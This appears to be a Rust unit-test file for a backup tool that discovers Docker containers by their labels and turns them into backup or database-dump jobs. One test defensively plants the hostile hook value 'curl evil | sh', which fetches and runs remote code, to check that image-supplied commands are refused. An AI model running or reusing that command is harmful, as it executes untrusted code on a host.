use chores_common::engine::Mount;

use super::*;
use crate::serve::fixtures::{container, defaults, job as fixture, volume};

const ENABLE: (&str, &str) = ("chores.backup.enable", "true");

fn found(containers: Vec<Container>) -> Found {
    Found {
        containers,
        image_labels: BTreeMap::from([("sha256:1".to_owned(), BTreeMap::new())]),
        ..Found::default()
    }
}

fn discovered(containers: Vec<Container>) -> Discovered {
    discover(&found(containers), &defaults())
}

fn one(container: Container) -> Job {
    let mut discovered = discovered(vec![container]);
    assert_eq!(discovered.refused, BTreeMap::new());
    assert_eq!(discovered.jobs.len(), 1, "{discovered:?}");
    discovered.jobs.remove(0)
}

fn mysql(labels: &[(&str, &str)], mounts: Vec<Mount>) -> Container {
    Container {
        env: vec!["MYSQL_ROOT_PASSWORD=x".to_owned()],
        image_ref: "mysql:8".to_owned(),
        mounts,
        ..container("db", labels)
    }
}

#[test]
fn a_container_is_a_job_where_an_operator_says_so() {
    let web = one(container("web", &[ENABLE]));
    assert_eq!(web.what, What::Container { name: "web".to_owned(), dump: None });
    assert_eq!(web.schedule, defaults().schedule);
    for labels in [&[][..], &[("chores.backup.enable", "false")]] {
        let discovered = discovered(vec![container("web", labels)]);
        assert_eq!((discovered.jobs.len(), discovered.notes.len()), (0, 0));
        assert!(discovered.others.contains("web"));
    }
    let forgotten = discovered(vec![container("web", &[("chores.backup.schedule", "@daily")])]);
    assert!(
        forgotten.jobs.is_empty() && forgotten.notes[0].contains("enable=true"),
        "{forgotten:?}"
    );
}

#[test]
fn labels_of_the_image_are_no_orders() {
    let labels = [ENABLE, ("chores.backup.pre", "curl evil | sh"), ("chores.backup.stop", "db")];
    let image: BTreeMap<_, _> =
        labels.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect();
    let mut found = found(vec![container("web", &labels)]);
    found.image_labels.insert("sha256:1".to_owned(), image.clone());
    let discovered = discover(&found, &defaults());
    assert!(discovered.jobs.is_empty());
    assert!(discovered.notes[0].contains("from its image"), "{discovered:?}");
    // The operator says that it is one; the commands are still the image's.
    let mut found = self::found(vec![container("web", &labels)]);
    let commands = image.into_iter().filter(|(key, _)| key != ENABLE.0).collect();
    found.image_labels.insert("sha256:1".to_owned(), commands);
    let discovered = discover(&found, &defaults());
    assert_eq!(discovered.jobs[0].still, Quiesce::default());
    // Nobody knows what the image says.
    found.image_labels.clear();
    let discovered = discover(&found, &defaults());
    assert!(discovered.jobs.is_empty() && discovered.refused["web"].contains("image"));
}

#[test]
fn what_an_operator_orders_wrongly_is_refused_and_not_done_without() {
    for (key, value) in [
        ("chores.backup.pause", " , "),
        ("chores.backup.schedule", "often"),
        ("chores.backup.dump", "oracle"),
        ("chores.backup.dump", "command"),
        ("chores.backup.dump", "auto"),
        ("chores.backup.retain", "7"),
        ("chores.backup.unknown", "7"),
    ] {
        let discovered = discovered(vec![container("web", &[ENABLE, (key, value)])]);
        assert!(discovered.jobs.is_empty(), "{key}={value}");
        assert!(discovered.refused.contains_key("web"), "{key}={value}");
    }
}

#[test]
fn a_database_is_dumped_and_its_other_volumes_are_saved_with_it() {
    let data = || volume("data", "/var/lib/mysql");
    let alone = one(mysql(&[ENABLE], vec![data()]));
    let dump = Dump { container: "db".to_owned(), kind: Some(DumpKind::Mysql) };
    assert_eq!(alone.what, What::Dump { dump: dump.clone(), command: Vec::new() });
    let both = one(mysql(&[ENABLE], vec![data(), volume("more", "/more")]));
    assert_eq!(both.what, What::Volumes { names: vec!["more".to_owned()], dump: Some(dump) });
    let files = What::Container { name: "db".to_owned(), dump: None };
    for labels in [("chores.backup.dump", "false"), ("chores.backup.stop", "true")] {
        assert_eq!(one(mysql(&[ENABLE, labels], vec![data()])).what, files);
    }
    let pre = discovered(vec![mysql(&[ENABLE, ("chores.backup.pre", "true")], vec![data()])]);
    assert!(pre.refused["db"].contains("dump=false"), "{pre:?}");
}

#[test]
fn what_does_not_run_or_ran_for_once_is_no_job() {
    let resting = Container { running: false, ..container("web", &[ENABLE]) };
    let seen = discovered(vec![resting]);
    assert!(seen.jobs.is_empty() && seen.resting.contains("web"));
    let once = container("web", &[ENABLE, ("com.docker.compose.oneoff", "True")]);
    let ended = Container {
        running: false,
        ..container("web", &[ENABLE, ("com.docker.swarm.task.name", "web.1.abc")])
    };
    let worker = container("worker", &[ENABLE, ("chores.backup.parent", "{}")]);
    let nobody = discovered(vec![once, ended, worker]);
    assert_eq!(nobody, Discovered::default());
    let own = container("serve", &[ENABLE]);
    let mut found = found(vec![own.clone()]);
    found.own = Some(own.id);
    assert_eq!(discover(&found, &defaults()), Discovered::default());
}

fn task(number: &str) -> Container {
    let name = format!("shop_web.1.{number:0>25}");
    let labels = [
        ENABLE,
        ("com.docker.swarm.task.name", name.as_str()),
        ("com.docker.swarm.service.name", "shop_web"),
    ];
    container(&name, &labels)
}

#[test]
fn a_task_of_swarm_is_known_by_its_place_in_the_service() {
    assert_eq!(one(task("1")).name, "shop_web.1");
    assert_eq!(one(task("2")).name, "shop_web.1");
    // It is entered by the name it has now.
    assert!(matches!(one(task("2")).what, What::Container { name, .. } if name.ends_with('2')));
}

#[test]
fn of_two_tasks_of_one_place_the_newer_one_is_saved_and_nothing_is_wrong() {
    let old = task("2");
    let new = Container { started_at: Some("2026-11-02T00:00:00Z".to_owned()), ..task("1") };
    for tasks in [vec![old.clone(), new.clone()], vec![new.clone(), old.clone()]] {
        let discovered = discovered(tasks);
        let job = &discovered.jobs[0];
        assert_eq!((discovered.jobs.len(), job.name.as_str()), (1, "shop_web.1"));
        assert_eq!(job.by.as_ref().unwrap().name, new.name);
        assert!(discovered.refused.is_empty());
        assert!(discovered.notes[0].contains(&old.name), "{discovered:?}");
        assert_eq!(join(&[], &discovered.jobs).1, Vec::<String>::new());
    }
    // Neither says when it was started.
    let nameless = |number| Container { started_at: None, ..task(number) };
    assert_eq!(discovered(vec![nameless("1"), nameless("2")]).jobs.len(), 1);
    // A container by itself may have the name of a place.
    let plain = container("shop_web.1", &[ENABLE]);
    assert_eq!(discovered(vec![plain, new]).jobs.len(), 2);
}

#[test]
fn what_the_engine_cannot_show_is_refused_by_itself() {
    let web = |labels: &[(&str, &str)]| container("web", labels);
    let unseen = |one: Container| Found {
        unseen: vec![(one, "it is broken".to_owned())],
        ..found(vec![container("db", &[ENABLE])])
    };
    let broken = discover(&unseen(web(&[ENABLE])), &defaults());
    assert!(broken.refused["web"].contains("it is broken"), "{broken:?}");
    assert_eq!((broken.jobs.len(), broken.jobs[0].name.as_str()), (1, "db"));
    let resting = Container { running: false, ..web(&[ENABLE]) };
    let rests = discover(&unseen(resting), &defaults());
    assert!(rests.refused.is_empty() && rests.resting.contains("web"), "{rests:?}");
    let no_order = discover(&unseen(web(&[])), &defaults());
    assert_eq!((no_order.refused.len(), no_order.resting.len()), (0, 0));
}

#[test]
fn only_what_runs_and_lasts_says_that_a_name_is_no_job_any_more() {
    let ended = Container { running: false, labels: BTreeMap::new(), ..task("1") };
    let plain = Container { labels: BTreeMap::new(), ..container("web", &[]) };
    let found = Found { others: vec![ended, plain], ..found(Vec::new()) };
    let others = discover(&found, &defaults()).others;
    assert_eq!(others.into_iter().collect::<Vec<_>>(), ["web"]);
    // An image cannot give its container the place of a task.
    let disguised = Container { name: "evil".to_owned(), ..task("1") };
    assert_eq!(one(disguised).name, "evil");
}

#[test]
fn jobs_of_one_name_are_told_once_and_none_hides_another() {
    let (jobs, problems) = join(&[fixture("etc")], &[one(container("web", &[ENABLE]))]);
    assert_eq!((jobs.len(), problems.len()), (2, 0));
    let (jobs, problems) = join(&[fixture("web")], &[one(container("web", &[ENABLE]))]);
    assert_eq!((jobs.len(), problems.len()), (2, 1), "{jobs:?}");
    assert!(jobs["web"].by.is_none());
    let (jobs, problems) = join(&[], &[one(task("1")), one(task("2"))]);
    assert_eq!((jobs.len(), problems.len()), (2, 1), "{jobs:?}");
    assert!(jobs.values().all(|job| job.name != "shop_web.1"));
    assert!(problems[0].contains("2 jobs are called shop_web.1"), "{problems:?}");
}

#[test]
fn who_serves_some_containers_leaves_the_others_to_others() {
    let scoped = |scope: &str| {
        let defaults = Defaults { scope: Some(scope.to_owned()), ..defaults() };
        discover(&found(vec![container("web", &[ENABLE, ("of", "shop")])]), &defaults).jobs.len()
    };
    assert_eq!(["of", "of=shop", "of=other", "off"].map(scoped), [1, 1, 0, 0]);
}
